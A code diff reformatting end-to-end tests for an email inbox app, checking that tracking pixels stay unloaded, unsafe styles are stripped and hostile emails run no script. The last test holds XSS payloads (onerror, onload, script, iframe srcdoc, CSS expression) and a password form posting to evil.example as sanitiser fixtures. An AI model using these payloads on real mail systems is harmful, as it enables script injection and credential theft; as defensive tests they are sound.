@@ -28,18 +28,54 @@ beforeAll(async () => {
   await freshWebBuild();
   // The sender's image server speaks https like real trackers (a throwaway self-signed cert).
   const dir = fs.mkdtempSync(path.join(os.tmpdir(), "tatu-pixel-"));
-  execFileSync("openssl", ["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1", "-keyout", `${dir}/key.pem`, "-out", `${dir}/cert.pem`], { stdio: "ignore" });
+  execFileSync(
+    "openssl",
+    [
+      "req",
+      "-x509",
+      "-newkey",
+      "rsa:2048",
+      "-nodes",
+      "-days",
+      "1",
+      "-subj",
+      "/CN=127.0.0.1",
+      "-addext",
+      "subjectAltName=IP:127.0.0.1",
+      "-keyout",
+      `${dir}/key.pem`,
+      "-out",
+      `${dir}/cert.pem`,
+    ],
+    { stdio: "ignore" },
+  );
   const requests: string[] = [];
-  const server = https.createServer({ key: fs.readFileSync(`${dir}/key.pem`), cert: fs.readFileSync(`${dir}/cert.pem`) }, (req, res) => {
-    requests.push(req.url ?? "");
-    res.writeHead(200, { "content-type": "image/png" }).end(Buffer.from(PNG_B64, "base64"));
-  });
+  const server = https.createServer(
+    { key: fs.readFileSync(`${dir}/key.pem`), cert: fs.readFileSync(`${dir}/cert.pem`) },
+    (req, res) => {
+      requests.push(req.url ?? "");
+      res.writeHead(200, { "content-type": "image/png" }).end(Buffer.from(PNG_B64, "base64"));
+    },
+  );
   await new Promise<void>((r) => server.listen(0, "127.0.0.1", () => r()));
-  pixel = { url: `https://127.0.0.1:${(server.address() as AddressInfo).port}`, requests, close: () => new Promise((r) => server.close(() => r())) };
+  pixel = {
+    url: `https://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    requests,
+    close: () => new Promise((r) => server.close(() => r())),
+  };
   app = await startTestApp({ databaseUrl: await isolatedDatabaseUrl() });
   browser = await launchBrowser();
   artist = await signedInUser(app, { role: "artist" });
-  const account = await app.ctx.db.connectedAccount.create({ data: { userId: artist.userId, provider: "gmail", externalId: artist.email, address: artist.email, credentials: "v1.x.y.z", scopes: [] } });
+  const account = await app.ctx.db.connectedAccount.create({
+    data: {
+      userId: artist.userId,
+      provider: "gmail",
+      externalId: artist.email,
+      address: artist.email,
+      credentials: "v1.x.y.z",
+      scopes: [],
+    },
+  });
   accountId = account.id;
 });
 afterAll(async () => {
@@ -64,20 +100,40 @@ async function messageFrame(page: Page): Promise<Frame> {
 
 /** Mail arriving through the inbox's real ingest path (sanitised and stored like any sync). */
 async function receive(from: string, subject: string, html: string): Promise<{ id: string; conversationId: string }> {
-  const r = await ingestMessages(app.ctx, { id: accountId, userId: artist.userId, channel: "gmail", identityKind: "email" }, [{
-    externalId: `m-${Math.random().toString(36).slice(2)}`, direction: "inbound", from: { handle: from, name: from.split("@")[0] }, to: [{ handle: artist.email }], cc: [],
-    subject, text: "", html, sentAt: new Date(), seen: false, attachments: [],
-  }], { maxAttachmentBytes: 10 * 1024 * 1024 });
+  const r = await ingestMessages(
+    app.ctx,
+    { id: accountId, userId: artist.userId, channel: "gmail", identityKind: "email" },
+    [
+      {
+        externalId: `m-${Math.random().toString(36).slice(2)}`,
+        direction: "inbound",
+        from: { handle: from, name: from.split("@")[0] },
+        to: [{ handle: artist.email }],
+        cc: [],
+        subject,
+        text: "",
+        html,
+        sentAt: new Date(),
+        seen: false,
+        attachments: [],
+      },
+    ],
+    { maxAttachmentBytes: 10 * 1024 * 1024 },
+  );
   return r.inserted[0]!;
 }
 
 it("a tracking pixel is not requested until the artist loads remote images; inline images show; styles are filtered", async () => {
-  const m = await receive("news@shop.example", "Spring flash sale", `
+  const m = await receive(
+    "news@shop.example",
+    "Spring flash sale",
+    `
     <p>Hello from the newsletter</p>
     <img src="${pixel.url}/open.gif?rcpt=artist" width="1" height="1" alt="">
     <img src="${pixel.url}/logo.png" srcset="${pixel.url}/logo-2x.png 2x" alt="Shop logo">
     <div style="position:fixed;top:0;left:0;width:100vw;background:url(${pixel.url}/bg.png);color:#123456;font-weight:bold">styled</div>
-    <img src="data:image/png;base64,${PNG_B64}" alt="inline picture">`);
+    <img src="data:image/png;base64,${PNG_B64}" alt="inline picture">`,
+  );
 
   const context = await newContext();
   await logIn(context, artist.email);
@@ -88,10 +144,28 @@ it("a tracking pixel is not requested until the artist loads remote images; inli
   const frame = await messageFrame(page);
   // Every image of the message has finished (loaded or not): a remote fetch would have reached
   // the sender's server by now. It has heard nothing.
-  await expect.poll(() => frame.evaluate(() => document.images.length > 0 && Array.from(document.images).every((i) => i.complete)).catch(() => false), POLL).toBe(true);
+  await expect
+    .poll(
+      () =>
+        frame
+          .evaluate(() => document.images.length > 0 && Array.from(document.images).every((i) => i.complete))
+          .catch(() => false),
+      POLL,
+    )
+    .toBe(true);
   await page.waitForLoadState("networkidle");
   expect(pixel.requests).toEqual([]);
-  await expect.poll(() => frame.evaluate(() => (document.querySelector('img[alt="inline picture"]') as HTMLImageElement | null)?.naturalWidth ?? 0).catch(() => 0), POLL).toBe(1);
+  await expect
+    .poll(
+      () =>
+        frame
+          .evaluate(
+            () => (document.querySelector('img[alt="inline picture"]') as HTMLImageElement | null)?.naturalWidth ?? 0,
+          )
+          .catch(() => 0),
+      POLL,
+    )
+    .toBe(1);
   expect(await page.getByTestId("remote-images").innerText()).toMatch(/2 remote images were not loaded/);
   const styled = await frame.evaluate(() => {
     const el = Array.from(document.querySelectorAll("div")).find((d) => d.textContent === "styled")!;
@@ -112,7 +186,11 @@ it("a tracking pixel is not requested until the artist loads remote images; inli
 });
 
 it("the API the page renders keeps remote images out and strips unsafe styles", async () => {
-  const m = await receive("promo@shop.example", "Styles", `<p style="position:fixed;background:url(${pixel.url}/bg2.png);color:red">x</p><img src="${pixel.url}/t.gif">`);
+  const m = await receive(
+    "promo@shop.example",
+    "Styles",
+    `<p style="position:fixed;background:url(${pixel.url}/bg2.png);color:red">x</p><img src="${pixel.url}/t.gif">`,
+  );
   const messages = await artist.client.get(`/api/inbox/conversations/${m.conversationId}/messages`);
   const item = messages.body.items.find((i: { id: string }) => i.id === m.id);
   expect(item.html).not.toMatch(/position|url\(/);
@@ -136,7 +214,10 @@ it("the API the page renders keeps remote images out and strips unsafe styles", 
 });
 
 it("a hostile email runs no script: <img onerror>, <svg onload>, javascript: link, <script>", async () => {
-  const m = await receive("mallory@evil.example", "Invoice", `
+  const m = await receive(
+    "mallory@evil.example",
+    "Invoice",
+    `
     <p>Please see the invoice</p>
     <img src=x onerror="parent.__xss=1;alert(1)">
     <svg onload="parent.__xss=2"><circle r=4></circle></svg>
@@ -144,12 +225,16 @@ it("a hostile email runs no script: <img onerror>, <svg onload>, javascript: lin
     <script>parent.__xss=4</script>
     <iframe srcdoc="<script>parent.__xss=5</script>"></iframe>
     <form action="https://evil.example/steal"><input name="password"></form>
-    <div style="behavior:url(x.htc);color:expression(alert(1))">odd</div>`);
+    <div style="behavior:url(x.htc);color:expression(alert(1))">odd</div>`,
+  );
   const context = await newContext();
   await logIn(context, artist.email);
   const page = await context.newPage();
   const dialogs: string[] = [];
-  page.on("dialog", (d) => { dialogs.push(d.message()); void d.dismiss(); });
+  page.on("dialog", (d) => {
+    dialogs.push(d.message());
+    void d.dismiss();
+  });
   await page.goto(`/inbox/${m.conversationId}`);
   const body = page.frameLocator("iframe.message-html").locator("body");
   await expect.poll(() => body.innerText().catch(() => ""), POLL).toContain("Please see the invoice");
@@ -157,12 +242,17 @@ it("a hostile email runs no script: <img onerror>, <svg onload>, javascript: lin
   const frame = await messageFrame(page);
   const dom = await frame.evaluate(() => ({
     dangerous: document.querySelectorAll("script, svg, iframe, form, input, object, embed").length,
-    handlers: Array.from(document.querySelectorAll("*")).flatMap((el) => Array.from(el.attributes).map((a) => a.name)).filter((n) => n.startsWith("on")),
+    handlers: Array.from(document.querySelectorAll("*"))
+      .flatMap((el) => Array.from(el.attributes).map((a) => a.name))
+      .filter((n) => n.startsWith("on")),
     link: Array.from(document.querySelectorAll("a")).map((a) => [a.textContent, a.getAttribute("href")]),
     styles: Array.from(document.querySelectorAll("[style]")).map((el) => el.getAttribute("style")),
   }));
   expect(dom).toEqual({ dangerous: 0, handlers: [], link: [["click me", null]], styles: [] });
-  await frame.getByText("click me").click().catch(() => undefined);
+  await frame
+    .getByText("click me")
+    .click()
+    .catch(() => undefined);
   await page.waitForLoadState("networkidle");
   expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
   expect(dialogs).toEqual([]);
